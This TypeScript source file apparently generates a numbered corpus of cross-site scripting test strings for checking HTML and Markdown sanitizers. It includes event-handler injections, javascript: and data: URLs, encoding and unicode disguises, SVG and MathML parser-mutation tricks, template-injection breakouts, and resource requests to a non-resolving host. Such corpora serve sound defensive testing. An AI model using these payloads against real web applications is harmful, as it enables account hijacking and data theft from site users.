/** Where pieces that fetch something from elsewhere fetch it: a name that never resolves (RFC 6761). */
export const elsewhere = "e.invalid";

/** A text that runs `xss(n)`, or asks `elsewhere` for something, wherever it is taken for more than text. */
type Attempt = (n: number) => string;

const call = (n: number) => `xss(${n})`;
const times = <A, B>(first: readonly A[], second: readonly B[], make: (a: A, b: B) => Attempt): Attempt[] =>
  first.flatMap((a) => second.map((b) => make(a, b)));

/** Elements by what they need besides the handler to be whole. */
const elements = [
  "img src=x",
  "svg",
  "a href=#",
  "p",
  "button",
  "input",
  "details open",
  "video",
  "select",
  "math",
  "x-y",
  "body",
];
const events = [
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "onpointerenter",
  "onanimationstart",
  "ontoggle",
  "onwheel",
  "oncopy",
  "onbeforeinput",
  "ontransitionend",
];
const handlers = times(elements, events, (element, event) => (n) => `<${element} ${event}=${call(n)}>`);

/** Elements whose handler runs by itself. */
const eager: Attempt[] = [
  (n) => `<img src onerror=${call(n)}>`,
  (n) => `<image src=x onerror=${call(n)}>`,
  (n) => `<video><source onerror=${call(n)}></video>`,
  (n) => `<audio src=x onerror=${call(n)}></audio>`,
  (n) => `<input autofocus onfocus=${call(n)}>`,
  (n) => `<textarea autofocus onfocus=${call(n)}>`,
  (n) => `<select autofocus onfocus=${call(n)}>`,
  (n) => `<p tabindex=1 autofocus onfocus=${call(n)}>x`,
  (n) => `<marquee onstart=${call(n)}>x</marquee>`,
  (n) => `<iframe onload=${call(n)}></iframe>`,
  (n) => `<iframe srcdoc="<img src=x onerror=parent.${call(n)}>">`,
  (n) => `<object data=x onerror=${call(n)}></object>`,
  (n) => `<embed src=x onload=${call(n)}>`,
  (n) => `<link rel=stylesheet href=x onerror=${call(n)}>`,
  (n) => `<style onload=${call(n)}>p{}</style>`,
  (n) => `<script>${call(n)}</script>`,
  (n) => `<script src="data:,${call(n)}"></script>`,
  (n) => `<script type=module>${call(n)}</script>`,
  (n) => `<body onpageshow=${call(n)}>`,
  (n) => `<p popover id=p${n} onbeforetoggle=${call(n)}>`,
];

/** The same handler, as parsers of HTML and of JavaScript also read it. */
const spellings: ((n: number) => string)[] = [
  (n) => `"${call(n)}"`,
  (n) => `'${call(n)}'`,
  (n) => `xss\`${n}\``,
  (n) => `&#120;ss(${n})`,
  (n) => `&#x78;ss&#40;${n})`,
  (n) => `&#0000120ss&lpar;${n}&rpar;`,
  (n) => `\\u0078ss(${n})`,
  (n) => `self['xs'+'s'](${n})`,
  (n) => `top[/xss/.source](${n})`,
  (n) => `eval('xss('+${n}+')')`,
  (n) => `setTimeout('${call(n)}')`,
  (n) => `Function('${call(n)}')()`,
  (n) => `[${n}].map(xss)`,
  (n) => `location='javascript:${call(n)}'`,
  (n) => `(/**/xss/**/)(${n})//`,
  (n) => `new(xss)(${n})`,
];
const carriers = ["img src=x onerror", "svg onload", "details open ontoggle"];
const spelled = times(carriers, spellings, (carrier, spell) => (n) => `<${carrier}=${spell(n)}>`);

/** The same tag, as only a parser reads it. */
const tags: Attempt[] = [
  (n) => `<IMG SRC=x OnErRoR=${call(n)}>`,
  (n) => `<img/src=x/onerror=${call(n)}>`,
  (n) => `<img\tsrc=x\tonerror=${call(n)}>`,
  (n) => `<img\nsrc=x\nonerror=${call(n)}\n>`,
  (n) => `<img\fsrc=x\fonerror=${call(n)}>`,
  (n) => `<img src="x"onerror=${call(n)}>`,
  (n) => `<img src=x onerror\n=\n${call(n)}>`,
  (n) => `<img """><img src=x onerror=${call(n)}>`,
  (n) => `<img src=x title=">" onerror=${call(n)}>`,
  (n) => `<img src=x onerror=${call(n)} `,
  (n) => `<img src=x onerror=${call(n)}//`,
  (n) => `<<img src=x onerror=${call(n)}>`,
  (n) => `<ScRiPt>${call(n)}</sCrIpT >`,
  (n) => `<script/x>${call(n)}</script>`,
  (n) => `<script\n>${call(n)}</script\t>`,
  (n) => `<!--><img src=x onerror=${call(n)}>-->`,
  (n) => `<!><img src=x onerror=${call(n)}>`,
  (n) => `<?x><img src=x onerror=${call(n)}>?>`,
  (n) => `<![CDATA[><img src=x onerror=${call(n)}>]]>`,
  (n) => `</x><img src=x onerror=${call(n)}>`,
  (n) => `<x:img xmlns:x=y onclick=${call(n)}>x`,
  (n) => `Ciao <3 <img src=x onerror=${call(n)}> ciao`,
];

/** Addresses that are code, as a parser of addresses reads them. */
const addresses: Attempt[] = [
  (n) => `javascript:${call(n)}`,
  (n) => `JaVaScRiPt:${call(n)}`,
  (n) => `java\tscript:${call(n)}`,
  (n) => `java\nscript:${call(n)}`,
  (n) => `\u0001javascript:${call(n)}`,
  (n) => ` javascript:${call(n)}`,
  (n) => `javascript&colon;${call(n)}`,
  (n) => `&#106;avascript:${call(n)}`,
  (n) => `javascript://%0a${call(n)}`,
  (n) => `javascript:/*https://a.it/*/${call(n)}`,
  (n) => `javascript:void%20${call(n)}`,
  (n) => `data:text/html,<script>parent.${call(n)}</script>`,
  (n) => `data:text/html;base64,${Buffer.from(`<svg onload=parent.${call(n)}>`).toString("base64")}`,
  (n) => `vbscript:${call(n)}`,
];
const places: ((address: string) => string)[] = [
  (address) => address,
  (address) => `[apri](${address})`,
  (address) => `[apri](<${address}>)`,
  (address) => `![foto](${address})`,
  (address) => `<${address}>`,
  (address) => `[apri][1]\n\n[1]: ${address}`,
  (address) => `<a href="${address}">apri</a>`,
  (address) => `<form action="${address}"><button>ok`,
  (address) => `<button form=f formaction="${address}">ok`,
  (address) => `<iframe src="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x`,
  (address) => `<object data="${address}">`,
];
const links = times(addresses, places, (address, place) => (n) => place(address(n)));

/** What ends the place a text stands in, in HTML. */
const endings = [
  `">`,
  `'>`,
  `-->`,
  `]]>`,
  `"/>`,
  `</textarea>`,
  `</title>`,
  `</style>`,
  `</script>`,
  `</noscript>`,
  `</template>`,
  `</select>`,
  `</xmp>`,
  `</iframe>`,
  `</svg>`,
  `</button></a>`,
];
const begun: Attempt[] = [(n) => `<img src=x onerror=${call(n)}>`, (n) => `<script>${call(n)}</script>`];
const outbreaks = times(endings, begun, (ending, begin) => (n) => ending + begin(n));

/** What ends an attribute, a string or a comment in a script, an expression of a template. */
const insides: Attempt[] = [
  (n) => `" onmouseover=${call(n)} x="`,
  (n) => `' onmouseover=${call(n)} x='`,
  (n) => `x onmouseover=${call(n)}`,
  (n) => `" autofocus onfocus=${call(n)} x="`,
  (n) => `";${call(n)};//`,
  (n) => `';${call(n)};//`,
  (n) => `"-${call(n)}-"`,
  (n) => `'-${call(n)}-'`,
  (n) => `\`-${call(n)}-\``,
  (n) => `\\";${call(n)};//`,
  (n) => `\n${call(n)}//`,
  (n) => `\u2028${call(n)}//`,
  (n) => `*/${call(n)}/*`,
  (n) => `\${${call(n)}}`,
  (n) => `{{${call(n)}}}`,
  (n) => `{{constructor.constructor('${call(n)}')()}}`,
  (n) => `<%=${call(n)}%>`,
  (n) => `#{${call(n)}}`,
];

/** What one parser reads otherwise than the next, and other languages inside of HTML. */
const strange: Attempt[] = [
  (n) => `<svg><script>${call(n)}</script></svg>`,
  (n) => `<svg><script href=data:,${call(n)} />`,
  (n) => `<svg><animate onbegin=${call(n)} attributeName=x dur=1s>`,
  (n) => `<svg><set onbegin=${call(n)} attributeName=x>`,
  (n) => `<svg><a><animate attributeName=href values=javascript:${call(n)} /><text y=9>x`,
  (n) => `<svg><foreignObject><img src=x onerror=${call(n)}>`,
  (n) => `<svg><style><img src=x onerror=${call(n)}>`,
  (n) => `<svg><title><img src=x onerror=${call(n)}>`,
  (n) => `<svg></p><style><a id="</style><img src=x onerror=${call(n)}>">`,
  (n) => `<math><mtext><img src=x onerror=${call(n)}>`,
  (n) => `<math href=javascript:${call(n)}>x</math>`,
  (n) => `<math><annotation-xml encoding=text/html><img src=x onerror=${call(n)}>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${call(n)}>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=${call(n)}>">`,
  (n) => `<p title="<!--"><img src=x onerror=${call(n)}>`,
  (n) => `<template shadowrootmode=open><img src=x onerror=${call(n)}>`,
  (n) => `<table><p><img src=x onerror=${call(n)}>`,
  (n) => `<xmp><p title="</xmp><img src=x onerror=${call(n)}>">`,
  (n) => `<a href="javascript:${call(n)}" ping=//${elsewhere}>x`,
  (n) => `<p style=animation-name:x onanimationstart=${call(n)}>x`,
];

/** Texts that become one of the others when somebody decodes, normalises or cleans them. */
const wide = (text: string) => text.replaceAll(/[!-~]/g, (sign) => String.fromCodePoint((sign.codePointAt(0) ?? 0) + 0xfee0));
const disguises: ((html: string) => string)[] = [
  wide,
  (html) => html.replaceAll("<", "\ufe64").replaceAll(">", "\ufe65"),
  (html) => html.replaceAll("<", "\uff1c").replaceAll(">", "\uff1e"),
  (html) => html.replaceAll("<", "<\u200b"),
  (html) => html.replaceAll("<", "<\u00ad"),
  (html) => html.replaceAll("<", "<\u2060"),
  (html) => `\u202e${html}`,
  (html) => `\ufeff${html}`,
  (html) => html.replaceAll("<", "&lt;"),
  (html) => html.replaceAll("<", "&amp;lt;"),
  (html) => html.replaceAll("<", "&#60;"),
  (html) => html.replaceAll("<", "&#x3c;"),
  (html) => encodeURIComponent(html),
  (html) => encodeURIComponent(encodeURIComponent(html)),
  (html) => html.replaceAll("<", "\\u003c"),
  (html) => html.replaceAll("<", "\\x3c"),
];
const hidden: Attempt[] = [(n) => `<img src=x onerror=${call(n)}>`, (n) => `<svg onload=${call(n)}>`];
const disguised = times(disguises, hidden, (disguise, html) => (n) => disguise(html(n)));

/** Without a script: something is asked for, or led to, elsewhere. */
const fetched: ((address: string) => string)[] = [
  (address) => `<img src=${address}>`,
  (address) => `<img srcset="${address} 2x">`,
  (address) => `<script src=${address}></script>`,
  (address) => `<link rel=stylesheet href=${address}>`,
  (address) => `<link rel=prefetch href=${address}>`,
  (address) => `<style>@import'${address}'</style>`,
  (address) => `<p style=background:url(${address})>x`,
  (address) => `<iframe src=${address}>`,
  (address) => `<object data=${address}>`,
  (address) => `<embed src=${address}>`,
  (address) => `<video poster=${address}>`,
  (address) => `<audio src=${address}>`,
  (address) => `<input type=image src=${address}>`,
  (address) => `<svg><image href=${address}>`,
  (address) => `<svg><use href=${address}#x>`,
  (address) => `<base href=${address}>`,
  (address) => `<meta http-equiv=refresh content=0;url=${address}>`,
  (address) => `<form action=${address}><button autofocus>ok`,
  (address) => `<table background=${address}><td>x`,
  (address) => `<img src='${address}?`,
  (address) => `![foto](https:${address})`,
  (address) => `![foto][1]\n\n[1]: https:${address}`,
];
const requests = fetched.map(
  (place): Attempt =>
    (n) =>
      place(`//${elsewhere}/${n}`),
);

const attempts = [
  ...handlers,
  ...eager,
  ...spelled,
  ...tags,
  ...links,
  ...outbreaks,
  ...insides,
  ...strange,
  ...disguised,
  ...requests,
];

/** Every text, each with its own number in it. The order is the same on every machine; neighbours are of different kinds. */
export const corpus: readonly string[] = attempts.map((_, at) => {
  // A step that shares no divisor with the length visits each once.
  const n = (at * 211) % attempts.length;
  return attempts[n]!(n);
});
